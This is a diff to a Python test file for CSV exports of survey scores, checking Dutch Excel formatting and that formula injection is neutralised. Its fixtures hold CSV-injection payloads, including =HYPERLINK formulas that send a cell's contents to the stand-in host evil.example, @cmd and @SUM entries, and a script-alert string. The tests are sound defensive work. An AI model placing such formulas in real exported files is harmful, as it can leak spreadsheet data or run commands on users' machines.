@@ -89,27 +89,67 @@ def test_json_nulls_where_nothing_is_scored(app) -> None:
     assert data["responses"] == [] and data["priorities"] == []
 
 
+def read_csv(data: bytes) -> list[list[str]]:
+    """Read a CSV export as Dutch Excel does: BOM, ``;``-separated, every field quoted."""
+    assert data.startswith("\ufeff".encode())
+    text = data.decode("utf-8-sig")
+    for line in text.split("\r\n")[:2]:
+        assert line.startswith('"') and line.endswith('"'), line  # every field quoted
+    return list(csv.reader(io.StringIO(text), delimiter=";"))
+
+
+def number(cell: str) -> float:
+    """A CSV number with a decimal comma."""
+    assert "." not in cell, cell
+    return float(cell.replace(",", "."))
+
+
 def test_csv_tables_agree_with_the_engine_and_neutralise_formulas(app, built_round) -> None:
     round_ = built_round.round
     result = score(round_)
-    rows = list(csv.reader(io.StringIO(exports.to_csv(round_, "scores").decode("utf-8-sig"))))
+    rows = read_csv(exports.to_csv(round_, "scores"))
     header = rows[0]
     scored = {(r[0], r[1], r[3]): r for r in rows[1:]}
     for department in result.departments:
         for theme in department.themes():
             row = scored[(department.name, theme.bank_id, theme.theme_id)]
             value = row[header.index("score")]
-            assert (value == "" and theme.score is None) or float(value) == theme.score
-    priorities = list(csv.reader(io.StringIO(
-        exports.to_csv(round_, "priorities").decode("utf-8-sig"))))
+            assert (value == "" and theme.score is None) or number(value) == theme.score
+    priorities = read_csv(exports.to_csv(round_, "priorities"))
     assert len(priorities) == len(result.priorities) + 1
-    answers = exports.to_csv(round_, "answers").decode("utf-8-sig")
-    cells = [cell for row in csv.reader(io.StringIO(answers)) for cell in row]
+    cells = [cell for row in read_csv(exports.to_csv(round_, "answers")) for cell in row]
     for cell in cells:
         assert not cell.startswith(FORMULA_STARTS), cell
     assert "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"klik\")" in cells
     assert "'@cmd" in cells and "'-2+3" in cells and "'\t=1+1" in cells
     assert "<script>alert('xss')</script>" in cells  # plain text in CSV
+
+
+def test_csv_neutralises_formulas_after_every_separator(app) -> None:
+    """``zie beleid;=HYPERLINK(…)`` must not become a live formula however the line is split:
+    not by a CSV reader, and not by a reader that splits on ``;`` and line breaks, ignoring
+    the quotes."""
+    from tests.results.conftest import build_round
+
+    tricky = ['zie beleid;=HYPERLINK("http://evil.example","klik")', "a;+1;-2;@x",
+              "regel\n=1+1", "regel\r\n@SUM(A1)", "x;\t=1"]
+    built = build_round([("Wonen", ["bestuur"])], respondents=2, drafts=0,
+                        comments=tricky, name="Ronde;=1+1")
+    data = exports.to_csv(built.round, "answers")
+    cells = [cell for row in read_csv(data) for cell in row]
+    assert "zie beleid;'=HYPERLINK(\"http://evil.example\",\"klik\")" in cells
+    assert "a;'+1;'-2;'@x" in cells and "regel\n'=1+1" in cells
+    naive = [piece.strip('"') for line in data.decode("utf-8-sig").splitlines()
+             for piece in line.split(";")]
+    assert naive and not [p for p in naive if p.startswith(FORMULA_STARTS)]
+
+
+def test_csv_numbers_use_a_decimal_comma() -> None:
+    assert exports.csv_cell(41.25) == "41,25"
+    assert exports.csv_cell(75.0) == "75,0"
+    assert exports.csv_cell(1e-17) == "0,00000000000000001"
+    assert exports.csv_cell(7) == "7" and exports.csv_cell(None) == ""
+    assert exports.csv_cell("-2+3") == "'-2+3"
 
 
 def test_xlsx_has_no_formulas(app, built_round) -> None:
